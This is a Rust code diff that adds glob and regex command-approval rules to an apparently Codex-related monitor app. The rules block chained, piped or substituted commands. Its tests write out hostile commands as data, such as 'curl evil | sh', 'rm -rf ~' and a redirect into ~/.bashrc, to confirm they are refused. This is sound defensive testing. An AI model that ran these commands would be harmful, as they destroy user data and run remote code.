@@ -1,11 +1,38 @@
+use std::collections::HashMap;
 use std::fs;
 use std::fs::OpenOptions;
 use std::path::{Path, PathBuf};
+use std::sync::{Mutex as StdMutex, OnceLock};
 use std::thread;
 use std::time::{Duration, Instant, SystemTime};
 
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+
+use crate::types::{ApprovalRule, ApprovalRuleTest, ApprovalRulesExport, ApprovalRulesImport};
+use crate::utils::write_file_atomic;
+
 const RULES_DIR: &str = "rules";
 const DEFAULT_RULES_FILE: &str = "default.rules";
+/// Glob and regex rules. Codex's `prefix_rule` can't express them, so the
+/// app keeps them next to the rules file and applies them itself.
+const PATTERN_RULES_FILE: &str = "pattern_rules.json";
+const RULES_EXPORT_VERSION: u32 = 1;
+
+pub(crate) const RULE_KIND_EXACT: &str = "exact";
+pub(crate) const RULE_KIND_GLOB: &str = "glob";
+pub(crate) const RULE_KIND_REGEX: &str = "regex";
+
+/// Compiled glob and regex rules by kind and source.
+static PATTERN_CACHE: OnceLock<StdMutex<HashMap<String, Regex>>> = OnceLock::new();
+
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq)]
+#[serde(rename_all = "camelCase")]
+struct PatternRule {
+    kind: String,
+    pattern: String,
+    decision: String,
+}
 
 pub(crate) fn default_rules_path(codex_home: &Path) -> PathBuf {
     codex_home.join(RULES_DIR).join(DEFAULT_RULES_FILE)
@@ -44,6 +71,387 @@ pub(crate) fn append_prefix_rule(path: &Path, pattern: &[String]) -> Result<(),
     fs::write(path, updated).map_err(|err| err.to_string())
 }
 
+/// Line ranges `[start, end)` of each `prefix_rule(...)` block.
+fn rule_block_spans(lines: &[&str]) -> Vec<(usize, usize)> {
+    let mut spans = Vec::new();
+    let mut start = None;
+    for (index, line) in lines.iter().enumerate() {
+        let trimmed = line.trim();
+        match start {
+            None if trimmed.starts_with("prefix_rule(") => {
+                if trimmed.ends_with(')') {
+                    spans.push((index, index + 1));
+                } else {
+                    start = Some(index);
+                }
+            }
+            Some(first) if trimmed.starts_with(')') => {
+                spans.push((first, index + 1));
+                start = None;
+            }
+            None | Some(_) => {}
+        }
+    }
+    spans
+}
+
+fn block_text(lines: &[&str], (start, end): (usize, usize)) -> String {
+    if end - start == 1 {
+        format!("{}\n", lines[start].trim())
+    } else {
+        format!("{}\n", lines[start..end].join("\n"))
+    }
+}
+
+/// Splits a rules file into its `prefix_rule(...)` blocks, dropping comments
+/// and blank lines between them.
+pub(crate) fn split_rule_blocks(contents: &str) -> Vec<String> {
+    let lines: Vec<&str> = contents.lines().collect();
+    rule_block_spans(&lines)
+        .into_iter()
+        .map(|span| block_text(&lines, span))
+        .collect()
+}
+
+/// The rules file's blocks, then the glob and regex rules kept beside it.
+pub(crate) fn list_rules(path: &Path) -> Result<Vec<ApprovalRule>, String> {
+    let contents = fs::read_to_string(path).unwrap_or_default();
+    let patterns = read_pattern_rules(&pattern_rules_path(path))?;
+    Ok(split_rule_blocks(&contents)
+        .into_iter()
+        .map(|block| describe_rule_block(&block))
+        .chain(patterns.iter().map(describe_pattern_rule))
+        .collect())
+}
+
+/// Removes the rule with `id`, leaving comments and the other rules as
+/// written. Codex threads started afterwards no longer see it. Returns false
+/// when no rule has that id.
+pub(crate) fn delete_rule(path: &Path, id: &str) -> Result<bool, String> {
+    if delete_prefix_rule(path, id)? {
+        return Ok(true);
+    }
+    let pattern_path = pattern_rules_path(path);
+    let _lock = acquire_rules_lock(&pattern_path)?;
+    let mut rules = read_pattern_rules(&pattern_path)?;
+    let before = rules.len();
+    rules.retain(|rule| describe_pattern_rule(rule).id != id);
+    if rules.len() == before {
+        return Ok(false);
+    }
+    write_pattern_rules(&pattern_path, &rules)?;
+    Ok(true)
+}
+
+fn delete_prefix_rule(path: &Path, id: &str) -> Result<bool, String> {
+    let _lock = acquire_rules_lock(path)?;
+    let Ok(contents) = fs::read_to_string(path) else {
+        return Ok(false);
+    };
+    let lines: Vec<&str> = contents.lines().collect();
+    let Some((mut start, mut end)) = rule_block_spans(&lines)
+        .into_iter()
+        .find(|span| rule_id(&block_text(&lines, *span)) == id)
+    else {
+        return Ok(false);
+    };
+    // Take the blank line that separated it from its neighbour too.
+    if start > 0 && lines[start - 1].trim().is_empty() {
+        start -= 1;
+    } else if lines.get(end).is_some_and(|line| line.trim().is_empty()) {
+        end += 1;
+    }
+    let mut updated = lines[..start]
+        .iter()
+        .chain(&lines[end..])
+        .copied()
+        .collect::<Vec<_>>()
+        .join("\n");
+    if !updated.is_empty() {
+        updated.push('\n');
+    }
+    fs::write(path, updated).map_err(|err| err.to_string())?;
+    Ok(true)
+}
+
+pub(crate) fn export_rules(path: &Path) -> Result<ApprovalRulesExport, String> {
+    Ok(ApprovalRulesExport {
+        version: RULES_EXPORT_VERSION,
+        rules: list_rules(path)?,
+    })
+}
+
+/// Appends the rules of an `export_rules` document that the file doesn't
+/// already have.
+pub(crate) fn import_rules(path: &Path, data: &str) -> Result<ApprovalRulesImport, String> {
+    let export: ApprovalRulesExport =
+        serde_json::from_str(data).map_err(|err| format!("Invalid rules export: {err}"))?;
+    if export.version > RULES_EXPORT_VERSION {
+        return Err(format!(
+            "Rules export version {} is newer than this app supports.",
+            export.version
+        ));
+    }
+    let total = export.rules.len();
+    let (exact, patterns): (Vec<&ApprovalRule>, Vec<&ApprovalRule>) = export
+        .rules
+        .iter()
+        .partition(|rule| rule.kind == RULE_KIND_EXACT);
+    let blocks: Vec<String> = exact
+        .into_iter()
+        .filter_map(|rule| {
+            let mut blocks = split_rule_blocks(&rule.rule);
+            (blocks.len() == 1).then(|| blocks.remove(0))
+        })
+        .collect();
+    let mut added = append_rule_blocks(path, &blocks)?;
+    for rule in patterns {
+        let Ok(kind) = parse_rule_kind(Some(&rule.kind)) else {
+            continue;
+        };
+        if compile_pattern(kind, rule.rule.trim()).is_err() {
+            continue;
+        }
+        if append_pattern_rule(path, kind, &rule.rule)? {
+            added += 1;
+        }
+    }
+    Ok(ApprovalRulesImport {
+        added,
+        skipped: total - added,
+    })
+}
+
+/// Appends the blocks `path` does not already contain, compared without
+/// whitespace. Returns how many were added.
+pub(crate) fn append_rule_blocks(path: &Path, blocks: &[String]) -> Result<usize, String> {
+    if blocks.is_empty() {
+        return Ok(0);
+    }
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent).map_err(|err| err.to_string())?;
+    }
+
+    let _lock = acquire_rules_lock(path)?;
+    let mut updated = fs::read_to_string(path).unwrap_or_default();
+    let mut present: Vec<String> = split_rule_blocks(&updated)
+        .iter()
+        .map(|block| normalize_rule_block(block))
+        .collect();
+    let mut added = 0;
+    for block in blocks {
+        let normalized = normalize_rule_block(block);
+        if normalized.is_empty() || present.contains(&normalized) {
+            continue;
+        }
+        if !updated.is_empty() && !updated.ends_with('\n') {
+            updated.push('\n');
+        }
+        if !updated.is_empty() {
+            updated.push('\n');
+        }
+        updated.push_str(block.trim_end());
+        updated.push('\n');
+        present.push(normalized);
+        added += 1;
+    }
+    if added > 0 {
+        fs::write(path, updated).map_err(|err| err.to_string())?;
+    }
+    Ok(added)
+}
+
+/// `exact` when no kind is given.
+pub(crate) fn parse_rule_kind(kind: Option<&str>) -> Result<&'static str, String> {
+    match kind.map(str::trim).filter(|kind| !kind.is_empty()) {
+        None => Ok(RULE_KIND_EXACT),
+        Some(RULE_KIND_EXACT) => Ok(RULE_KIND_EXACT),
+        Some(RULE_KIND_GLOB) => Ok(RULE_KIND_GLOB),
+        Some(RULE_KIND_REGEX) => Ok(RULE_KIND_REGEX),
+        Some(other) => Err(format!(
+            "Unknown approval rule kind `{other}`; expected exact, glob or regex."
+        )),
+    }
+}
+
+/// Stores an allow rule of kind `glob` or `regex` after checking that it
+/// compiles. Returns false when the same rule is already stored.
+pub(crate) fn append_pattern_rule(path: &Path, kind: &str, pattern: &str) -> Result<bool, String> {
+    let kind = parse_rule_kind(Some(kind))?;
+    if kind == RULE_KIND_EXACT {
+        return Err("Exact rules belong in the rules file.".to_string());
+    }
+    let pattern = pattern.trim();
+    compile_pattern(kind, pattern)?;
+    let pattern_path = pattern_rules_path(path);
+    if let Some(parent) = pattern_path.parent() {
+        fs::create_dir_all(parent).map_err(|err| err.to_string())?;
+    }
+
+    let _lock = acquire_rules_lock(&pattern_path)?;
+    let mut rules = read_pattern_rules(&pattern_path)?;
+    if rules
+        .iter()
+        .any(|rule| rule.kind == kind && rule.pattern == pattern)
+    {
+        return Ok(false);
+    }
+    rules.push(PatternRule {
+        kind: kind.to_string(),
+        pattern: pattern.to_string(),
+        decision: "allow".to_string(),
+    });
+    write_pattern_rules(&pattern_path, &rules)?;
+    Ok(true)
+}
+
+/// The first allow rule, of any kind, that covers `command`. Rules that can't
+/// be read match nothing.
+pub(crate) fn matching_rule(path: &Path, command: &[String]) -> Option<ApprovalRule> {
+    list_rules(path).ok()?.into_iter().find(|rule| {
+        rule.decision.as_deref() == Some("allow")
+            && rule_matches(&rule.kind, &rule.pattern, command).unwrap_or(false)
+    })
+}
+
+/// Matches `pattern` against `command` without storing anything. An exact
+/// pattern is split on whitespace into tokens.
+pub(crate) fn test_rule(
+    kind: &str,
+    pattern: &str,
+    command: &[String],
+) -> Result<ApprovalRuleTest, String> {
+    let kind = parse_rule_kind(Some(kind))?;
+    let pattern: Vec<String> = if kind == RULE_KIND_EXACT {
+        pattern.split_whitespace().map(str::to_string).collect()
+    } else {
+        vec![pattern.trim().to_string()]
+    };
+    Ok(ApprovalRuleTest {
+        matched: rule_matches(kind, &pattern, command)?,
+        command_line: command_line(command),
+    })
+}
+
+/// Exact rules compare tokens literally, as a prefix of the command, the way
+/// Codex applies `prefix_rule`. Glob and regex rules must match the whole
+/// `command_line`, and never match one that chains, pipes, redirects or
+/// substitutes, since `*` would otherwise let any command ride along.
+fn rule_matches(kind: &str, pattern: &[String], command: &[String]) -> Result<bool, String> {
+    if kind == RULE_KIND_EXACT {
+        if pattern.is_empty() {
+            return Err("empty command pattern".to_string());
+        }
+        let command: Vec<&str> = command
+            .iter()
+            .map(|token| token.trim())
+            .filter(|token| !token.is_empty())
+            .collect();
+        return Ok(pattern.len() <= command.len()
+            && pattern
+                .iter()
+                .zip(&command)
+                .all(|(expected, token)| expected.split('|').any(|option| option == *token)));
+    }
+    let source = match pattern {
+        [source] => source,
+        _ => return Err(format!("A {kind} rule has a single pattern.")),
+    };
+    let regex = compile_pattern(kind, source)?;
+    let line = command_line(command);
+    Ok(!has_shell_syntax(&line) && regex.is_match(&line))
+}
+
+/// Control operators, redirections, substitutions and line breaks.
+fn has_shell_syntax(line: &str) -> bool {
+    line.contains("$(")
+        || line
+            .chars()
+            .any(|ch| matches!(ch, ';' | '&' | '|' | '<' | '>' | '`' | '\n' | '\r'))
+}
+
+/// The command with a `sh -c`-style wrapper unwrapped, so `cargo test *`
+/// also covers `bash -lc "cargo test foo"`.
+fn command_line(command: &[String]) -> String {
+    let tokens: Vec<&str> = command
+        .iter()
+        .map(|token| token.trim())
+        .filter(|token| !token.is_empty())
+        .collect();
+    if let [shell, flag, script] = tokens.as_slice() {
+        let shell = shell.rsplit('/').next().unwrap_or(shell);
+        if matches!(shell, "sh" | "bash" | "zsh") && matches!(*flag, "-c" | "-lc") {
+            // Line breaks separate commands, so keep them for `has_shell_syntax`.
+            if script.contains(['\n', '\r']) {
+                return script.to_string();
+            }
+            return script.split_whitespace().collect::<Vec<_>>().join(" ");
+        }
+    }
+    tokens.join(" ")
+}
+
+fn compile_pattern(kind: &str, pattern: &str) -> Result<Regex, String> {
+    if pattern.is_empty() {
+        return Err(format!("Empty {kind} pattern."));
+    }
+    let key = format!("{kind}:{pattern}");
+    let cache = PATTERN_CACHE.get_or_init(|| StdMutex::new(HashMap::new()));
+    if let Some(regex) = cache.lock().ok().and_then(|cache| cache.get(&key).cloned()) {
+        return Ok(regex);
+    }
+    let source = if kind == RULE_KIND_GLOB {
+        glob_to_regex(pattern)
+    } else {
+        format!("^(?:{pattern})$")
+    };
+    let regex =
+        Regex::new(&source).map_err(|err| format!("Invalid {kind} pattern `{pattern}`: {err}"))?;
+    if let Ok(mut cache) = cache.lock() {
+        cache.insert(key, regex.clone());
+    }
+    Ok(regex)
+}
+
+/// `*` matches any run of characters, spaces included, and `?` a single
+/// one; a backslash makes the next character literal. Command lines with
+/// shell syntax are turned away before this runs, see `rule_matches`.
+fn glob_to_regex(glob: &str) -> String {
+    let mut source = String::from("^");
+    let mut chars = glob.chars();
+    while let Some(ch) = chars.next() {
+        match ch {
+            '*' => source.push_str(".*"),
+            '?' => source.push('.'),
+            '\\' => {
+                if let Some(next) = chars.next() {
+                    source.push_str(&regex::escape(&next.to_string()));
+                }
+            }
+            ch => source.push_str(&regex::escape(&ch.to_string())),
+        }
+    }
+    source.push('$');
+    source
+}
+
+fn pattern_rules_path(path: &Path) -> PathBuf {
+    path.with_file_name(PATTERN_RULES_FILE)
+}
+
+fn read_pattern_rules(path: &Path) -> Result<Vec<PatternRule>, String> {
+    if !path.exists() {
+        return Ok(Vec::new());
+    }
+    let data = fs::read_to_string(path).map_err(|err| err.to_string())?;
+    serde_json::from_str(&data).map_err(|err| err.to_string())
+}
+
+fn write_pattern_rules(path: &Path, rules: &[PatternRule]) -> Result<(), String> {
+    let data = serde_json::to_string_pretty(rules).map_err(|err| err.to_string())?;
+    write_file_atomic(path, data.as_bytes())
+}
+
 struct RulesFileLock {
     path: PathBuf,
 }
@@ -148,10 +556,145 @@ fn rule_already_present(contents: &str, pattern: &[String]) -> bool {
     false
 }
 
+/// FNV-1a over the block without whitespace, so reformatting a rule keeps
+/// its id.
+fn rule_id(block: &str) -> String {
+    fnv_hex(&normalize_rule_block(block))
+}
+
+fn fnv_hex(text: &str) -> String {
+    let mut hash: u64 = 0xcbf29ce484222325;
+    for byte in text.bytes() {
+        hash ^= u64::from(byte);
+        hash = hash.wrapping_mul(0x100000001b3);
+    }
+    format!("{hash:016x}")
+}
+
+fn describe_rule_block(block: &str) -> ApprovalRule {
+    ApprovalRule {
+        id: rule_id(block),
+        kind: RULE_KIND_EXACT.to_string(),
+        pattern: rule_field(block, "pattern")
+            .and_then(parse_pattern)
+            .unwrap_or_default(),
+        decision: rule_field(block, "decision").and_then(parse_quoted),
+        rule: block.to_string(),
+    }
+}
+
+fn describe_pattern_rule(rule: &PatternRule) -> ApprovalRule {
+    ApprovalRule {
+        id: fnv_hex(&format!("{}:{}", rule.kind, rule.pattern)),
+        kind: rule.kind.clone(),
+        pattern: vec![rule.pattern.clone()],
+        decision: Some(rule.decision.clone()),
+        rule: rule.pattern.clone(),
+    }
+}
+
+/// What follows `key =` in a block.
+fn rule_field<'a>(block: &'a str, key: &str) -> Option<&'a str> {
+    let mut offset = 0;
+    while let Some(found) = block[offset..].find(key) {
+        let start = offset + found;
+        offset = start + key.len();
+        let preceded_by_word = block[..start]
+            .chars()
+            .next_back()
+            .is_some_and(|ch| ch.is_alphanumeric() || ch == '_');
+        if preceded_by_word {
+            continue;
+        }
+        if let Some(value) = block[offset..].trim_start().strip_prefix('=') {
+            return Some(value.trim_start());
+        }
+    }
+    None
+}
+
+/// A quoted string at the start of `value`, unescaped.
+fn parse_quoted(value: &str) -> Option<String> {
+    let mut chars = value.chars();
+    let quote = chars.next().filter(|ch| *ch == '"' || *ch == '\'')?;
+    let mut text = String::new();
+    while let Some(ch) = chars.next() {
+        match ch {
+            '\\' => match chars.next()? {
+                'n' => text.push('\n'),
+                'r' => text.push('\r'),
+                't' => text.push('\t'),
+                other => text.push(other),
+            },
+            ch if ch == quote => return Some(text),
+            ch => text.push(ch),
+        }
+    }
+    None
+}
+
+/// A `[...]` list of strings, where a nested list of alternatives becomes
+/// one `a|b` token.
+fn parse_pattern(value: &str) -> Option<Vec<String>> {
+    let mut rest = value.strip_prefix('[')?;
+    let mut tokens = Vec::new();
+    let mut alternatives: Option<Vec<String>> = None;
+    loop {
+        rest = rest.trim_start();
+        let ch = rest.chars().next()?;
+        match ch {
+            ',' => rest = &rest[1..],
+            '[' if alternatives.is_none() => {
+                alternatives = Some(Vec::new());
+                rest = &rest[1..];
+            }
+            ']' => {
+                rest = &rest[1..];
+                match alternatives.take() {
+                    Some(group) => tokens.push(group.join("|")),
+                    None => return Some(tokens),
+                }
+            }
+            '"' | '\'' => {
+                let text = parse_quoted(rest)?;
+                rest = skip_quoted(rest)?;
+                match alternatives.as_mut() {
+                    Some(group) => group.push(text),
+                    None => tokens.push(text),
+                }
+            }
+            _ => return None,
+        }
+    }
+}
+
+/// `value` past the quoted string it starts with.
+fn skip_quoted(value: &str) -> Option<&str> {
+    let quote = value.chars().next()?;
+    let mut escaped = false;
+    for (index, ch) in value.char_indices().skip(1) {
+        if escaped {
+            escaped = false;
+        } else if ch == '\\' {
+            escaped = true;
+        } else if ch == quote {
+            return Some(&value[index + ch.len_utf8()..]);
+        }
+    }
+    None
+}
+
 fn normalize_rule_value(value: &str) -> String {
     value.chars().filter(|ch| !ch.is_whitespace()).collect()
 }
 
+/// Also ignores trailing commas, which the single-line form usually omits.
+fn normalize_rule_block(block: &str) -> String {
+    normalize_rule_value(block)
+        .replace(",)", ")")
+        .replace(",]", "]")
+}
+
 fn escape_string(value: &str) -> String {
     value
         .replace('\\', "\\\\")
@@ -160,3 +703,120 @@ fn escape_string(value: &str) -> String {
         .replace('\r', "\\r")
         .replace('\t', "\\t")
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use uuid::Uuid;
+
+    #[test]
+    fn rules_list_delete_and_import_round_trip() {
+        let dir = std::env::temp_dir().join(format!("codex-monitor-rules-{}", Uuid::new_v4()));
+        let path = dir.join("default.rules");
+        append_prefix_rule(&path, &["git".to_string(), "status".to_string()]).expect("git");
+        let npm = r#"prefix_rule(pattern = ["npm", ["test", "run"]], decision = "prompt")"#;
+        append_rule_blocks(&path, &[npm.to_string()]).expect("npm");
+
+        let rules = list_rules(&path).expect("list");
+        assert_eq!(rules.len(), 2);
+        assert_eq!(rules[0].pattern, vec!["git", "status"]);
+        assert_eq!(rules[0].decision.as_deref(), Some("allow"));
+        assert_eq!(rules[1].pattern, vec!["npm", "test|run"]);
+        assert_eq!(rules[1].decision.as_deref(), Some("prompt"));
+
+        let export =
+            serde_json::to_string(&export_rules(&path).expect("export")).expect("serialize");
+        assert!(delete_rule(&path, &rules[0].id).expect("delete"));
+        assert!(!delete_rule(&path, &rules[0].id).expect("delete again"));
+        let remaining = list_rules(&path).expect("list");
+        assert_eq!(remaining.len(), 1);
+        assert_eq!(remaining[0].id, rules[1].id);
+        assert!(!fs::read_to_string(&path).expect("read").starts_with('\n'));
+
+        let imported = import_rules(&path, &export).expect("import");
+        assert_eq!((imported.added, imported.skipped), (1, 1));
+        assert_eq!(list_rules(&path).expect("list").len(), 2);
+
+        let _ = fs::remove_dir_all(dir);
+    }
+
+    #[test]
+    fn glob_and_regex_rules_match_the_command_line() {
+        let dir = std::env::temp_dir().join(format!("codex-monitor-rules-{}", Uuid::new_v4()));
+        let path = dir.join("default.rules");
+        let command =
+            |line: &str| -> Vec<String> { line.split_whitespace().map(str::to_string).collect() };
+
+        assert!(append_pattern_rule(&path, "glob", "cargo test *").expect("glob"));
+        assert!(!append_pattern_rule(&path, "glob", " cargo test * ").expect("duplicate"));
+        assert!(append_pattern_rule(&path, "regex", r"npm run (lint|test)").expect("regex"));
+        let invalid = append_pattern_rule(&path, "regex", "npm run (lint").unwrap_err();
+        assert!(invalid.contains("Invalid regex pattern"));
+        assert!(parse_rule_kind(Some("wildcard")).is_err());
+        append_prefix_rule(&path, &["git".to_string(), "status".to_string()]).expect("git");
+
+        let matched = matching_rule(&path, &command("cargo test foo")).expect("glob match");
+        assert_eq!(matched.kind, "glob");
+        let wrapped = vec!["/bin/bash".into(), "-lc".into(), "cargo test bar".into()];
+        assert!(matching_rule(&path, &wrapped).is_some());
+        assert!(matching_rule(&path, &command("cargo build")).is_none());
+        assert!(matching_rule(&path, &command("npm run test")).is_some());
+        assert!(matching_rule(&path, &command("npm run test && rm -rf /")).is_none());
+        assert!(matching_rule(&path, &command("cargo test x && rm -rf ~")).is_none());
+        assert!(matching_rule(&path, &command("cargo test $(curl evil)")).is_none());
+        assert!(matching_rule(&path, &command("cargo test `id` x")).is_none());
+        for script in [
+            "cargo test x; curl evil | sh",
+            "cargo test x && rm -rf ~",
+            "cargo test x || true",
+            "cargo test x > ~/.bashrc",
+            "cargo test x\ncurl evil",
+        ] {
+            let chained = vec!["bash".into(), "-lc".into(), script.to_string()];
+            assert!(matching_rule(&path, &chained).is_none(), "{script}");
+        }
+        let exact = matching_rule(&path, &command("git status --short")).expect("exact");
+        assert_eq!(exact.kind, "exact");
+
+        let test = test_rule("glob", "cargo test ?oo", &command("cargo  test foo")).expect("test");
+        assert!(test.matched);
+        assert_eq!(test.command_line, "cargo test foo");
+        assert!(
+            !test_rule("exact", "git push", &command("git status"))
+                .expect("exact")
+                .matched
+        );
+        assert!(test_rule("regex", "(", &command("git status")).is_err());
+
+        let rules = list_rules(&path).expect("list");
+        assert_eq!(rules.len(), 3);
+        let export =
+            serde_json::to_string(&export_rules(&path).expect("export")).expect("serialize");
+        assert!(delete_rule(&path, &matched.id).expect("delete glob"));
+        assert!(matching_rule(&path, &command("cargo test foo")).is_none());
+        let imported = import_rules(&path, &export).expect("import");
+        assert_eq!((imported.added, imported.skipped), (1, 2));
+        assert!(matching_rule(&path, &command("cargo test foo")).is_some());
+
+        let _ = fs::remove_dir_all(dir);
+    }
+
+    #[test]
+    fn unreadable_pattern_rules_are_reported_and_left_alone() {
+        let dir = std::env::temp_dir().join(format!("codex-monitor-rules-{}", Uuid::new_v4()));
+        let path = dir.join("default.rules");
+        fs::create_dir_all(&dir).expect("dir");
+        let pattern_path = pattern_rules_path(&path);
+        fs::write(&pattern_path, "[{\"kind\": \"glob\", \"pat").expect("seed");
+
+        assert!(list_rules(&path).is_err());
+        assert!(append_pattern_rule(&path, "glob", "cargo test *").is_err());
+        assert!(delete_rule(&path, "missing").is_err());
+        assert_eq!(
+            fs::read_to_string(&pattern_path).expect("read"),
+            "[{\"kind\": \"glob\", \"pat"
+        );
+
+        let _ = fs::remove_dir_all(dir);
+    }
+}